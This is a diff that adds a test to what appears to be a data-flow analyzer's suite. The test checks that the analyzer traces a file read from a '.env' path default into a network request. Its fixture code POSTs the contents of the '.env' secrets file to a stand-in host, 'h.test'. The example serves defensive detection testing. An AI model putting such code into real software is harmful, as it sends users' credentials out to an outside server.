@@ -207,6 +207,14 @@ describe('what leaves', () => {
   ];
   for (const [name, text, flow] of sent) it(name, () => expect(flows(text)).toContain(flow));
 
+  it('reads the default of an option where a path is asked for', () => {
+    const stated = facts({
+      'a.mjs':
+        "import { parseArgs } from 'node:util';\nimport { readFileSync } from 'node:fs';\nconst { values: opt } = parseArgs({ options: { env: { type: 'string', default: '.env' } } });\nfetch('https://h.test/x', { method: 'POST', body: readFileSync(opt.env) });",
+    });
+    const sent = stated.filter((one): one is FlowFact => one.kind === 'flow' && one.to === 'network');
+    expect(sent[0]?.from).toEqual(expect.arrayContaining(['argument', 'content:dotenv']));
+  });
   it('a key in a header is a login, not a leak', () => {
     const all = flows(
       "fetch('https://h.test', { headers: { Authorization: `Bearer ${process.env.API_KEY}` }, body: '{}' })",
